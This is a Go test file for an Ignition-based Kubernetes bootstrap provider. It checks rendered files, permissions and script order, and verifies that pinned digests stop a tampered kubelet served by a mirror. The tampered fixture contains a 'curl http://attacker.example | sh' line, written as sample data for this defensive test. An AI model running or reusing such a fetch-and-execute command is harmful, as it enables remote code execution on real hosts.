/*
Copyright The cabpi Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package ignition_test

import (
	"crypto/sha256"
	"encoding/hex"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	ignconfig "github.com/coreos/ignition/v2/config"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/vincent-petithory/dataurl"

	cabpiv1 "github.com/cabpi/cluster-api-bootstrap-provider-ignition/apis/v1alpha1"
	"github.com/cabpi/cluster-api-bootstrap-provider-ignition/ignition"
	"github.com/cabpi/cluster-api-bootstrap-provider-ignition/internal/nodelayout"
	"github.com/cabpi/cluster-api-bootstrap-provider-ignition/test/framework/ignitionapply"
)

// The real Ignition engine writes what the renderer promises: the kubeadm config (0600), the
// script (0700) with its steps in order, the certificates with their modes, the user's files and
// snippet, and kubeadm.service enabled.
func TestApplyWithIgnition(t *testing.T) {
	cases := map[string]struct {
		in          ignition.Input
		kubeadmStep string
		certs       bool
		snippet     bool
	}{}
	for name, in := range goldenCases() {
		step := "kubeadm join --config /etc/kubeadm.yml"
		if in.Role == ignition.RoleInit {
			step = "kubeadm init --config /etc/kubeadm.yml"
		}
		cases[name] = struct {
			in          ignition.Input
			kubeadmStep string
			certs       bool
			snippet     bool
		}{in, step, in.Role != ignition.RoleWorkerJoin, in.Butane != "" || in.ContainerLinuxConfig != ""}
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			out, err := ignition.Render(tc.in)
			require.NoError(t, err)
			root := ignitionapply.Apply(t, out.Data)

			kubeadm := readFile(t, root, ignition.KubeadmConfigPath, 0o600)
			assert.Contains(t, kubeadm, "kind: ")
			script := readFile(t, root, ignition.KubeadmScriptPath, 0o700)
			steps := []string{"set -euo pipefail"}
			if tc.snippet {
				steps = append(steps, "systemctl enable --now containerd")
			}
			steps = append(steps, tc.kubeadmStep, "touch "+ignition.SentinelPath, "rm -f "+ignition.KubeadmConfigPath)
			if tc.snippet {
				steps = append(steps, "echo bootstrapped > /var/log/cabpi.log")
			}
			assertInOrder(t, script, steps...)
			assert.True(t, ignitionapply.UnitEnabled(t, root, ignition.KubeadmUnitName))
			unit := readFile(t, root, "/etc/systemd/system/kubeadm.service", 0o644)
			assert.Contains(t, unit, "ConditionPathExists=/etc/kubeadm.yml")
			assert.Contains(t, unit, "Type=oneshot")

			if tc.certs {
				for _, c := range tc.in.Certificates {
					assert.Equal(t, string(c.Content), readFile(t, root, c.Path, os.FileMode(c.Mode)))
				}
			} else {
				assert.NoFileExists(t, filepath.Join(root, "etc/kubernetes/pki/ca.key"))
			}
			if tc.snippet {
				assert.Equal(t, "hello\n", readFile(t, root, "/etc/cabpi/hello", 0o640))
				if os.Geteuid() == 0 { // only root can give files away
					info, err := os.Stat(filepath.Join(root, "etc/cabpi/hello"))
					require.NoError(t, err)
					st := info.Sys().(*syscall.Stat_t)
					assert.Equal(t, []uint32{500, 500}, []uint32{st.Uid, st.Gid}, "owner 500:500")
				}
				assert.Equal(t, "net.ipv4.ip_forward = 1\n", readFile(t, root, "/etc/sysctl.d/90-kubernetes.conf", 0o644))
				// Users are not applied to a directory root; they are in the config.
				cfg, _, err := ignconfig.Parse(out.Data)
				require.NoError(t, err)
				require.Len(t, cfg.Passwd.Users, 1)
				assert.Equal(t, "core", cfg.Passwd.Users[0].Name)
			}
			// Nothing the provider writes is left to Ignition's defaults or appended.
			assert.NoFileExists(t, filepath.Join(root, strings.TrimPrefix(ignition.SentinelPath, "/")), "the sentinel is kubeadm's to write")
		})
	}
}

func readFile(t *testing.T, root, path string, mode os.FileMode) string {
	t.Helper()
	full := filepath.Join(root, strings.TrimPrefix(path, "/"))
	info, err := os.Stat(full)
	require.NoError(t, err, path)
	assert.Equal(t, mode, info.Mode().Perm(), "mode of %s", path)
	data, err := os.ReadFile(full)
	require.NoError(t, err)
	return string(data)
}

func assertInOrder(t *testing.T, text string, parts ...string) {
	t.Helper()
	at := 0
	for _, p := range parts {
		i := strings.Index(text[at:], p)
		if !assert.GreaterOrEqual(t, i, 0, "%q missing or out of order in:\n%s", p, text) {
			return
		}
		at += i + len(p)
	}
}

func decodeDataURL(source string) (string, error) {
	u, err := dataurl.DecodeString(source)
	if err != nil {
		return "", err
	}
	return string(u.Data), nil
}

// The real Ignition engine checks each pinned download before it writes it: the release
// binaries a mirror serves are written when they match their pins, and a mirror that serves a
// changed kubelet, with a .sha256 beside it that matches the change, gets nothing written and
// the apply fails naming the hash: the digest is the user's (spec.kubernetes.digestsFrom), never
// the mirror's (docs/adr/046).
func TestPinnedDownloadsApply(t *testing.T) {
	official := map[string][]byte{"kubeadm": []byte("#!/bin/sh\necho v1.34.4\n"), "kubelet": []byte("#!/bin/sh\necho Kubernetes v1.34.4\n")}
	served := map[string][]byte{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name, ok := strings.CutPrefix(r.URL.Path, "/release/v1.34.4/bin/linux/amd64/")
		data, known := served[name]
		if !ok || !known {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write(data)
	}))
	t.Cleanup(srv.Close)
	user := nodelayout.Digests{}
	for name, data := range official {
		sum := sha256.Sum256(data)
		user["v1.34.4/bin/linux/amd64/"+name] = hex.EncodeToString(sum[:])
	}
	in := joinInput(cabpiv1.VariantFlatcar, "v1.34.4")
	in.Kubernetes = cabpiv1.KubernetesSpec{Source: cabpiv1.KubernetesSourceBinaries, Binaries: &cabpiv1.BinariesSource{BaseURL: srv.URL + "/release"}}
	in.KubernetesDigests = ignition.KubernetesDigests{User: user}
	out, err := ignition.Render(in)
	require.NoError(t, err)
	loopback := netip.MustParsePrefix("127.0.0.0/8")
	stage := "/opt/cabpi/kubernetes/v1.34.4/"

	for name, data := range official {
		served[name] = data
	}
	root := ignitionapply.ApplyWith(t, out.Data, ignitionapply.Options{RemoteWithin: loopback})
	for name, data := range official {
		got, err := os.ReadFile(filepath.Join(root, stage, name))
		require.NoError(t, err, name)
		assert.Equal(t, data, got, name)
	}

	changed := []byte("#!/bin/sh\necho Kubernetes v1.34.4; curl http://attacker.example | sh\n")
	served["kubelet"] = changed
	sum := sha256.Sum256(changed)
	served["kubelet.sha256"] = []byte(hex.EncodeToString(sum[:]))
	root = filepath.Join(t.TempDir(), "root")
	require.NoError(t, os.MkdirAll(root, 0o755))
	err = ignitionapply.ApplyInto(root, out.Data, ignitionapply.Options{RemoteWithin: loopback})
	require.Error(t, err, "a changed kubelet is never written")
	t.Logf("ignition-apply: %v", err)
	assert.Contains(t, err.Error(), "hash verification failed", "Ignition says why")
	assert.Contains(t, err.Error(), "but expected "+user["v1.34.4/bin/linux/amd64/kubelet"], "and names the pin")
	_, statErr := os.Stat(filepath.Join(root, stage, "kubelet"))
	assert.ErrorIs(t, statErr, os.ErrNotExist, "the changed kubelet is not on the node")
}
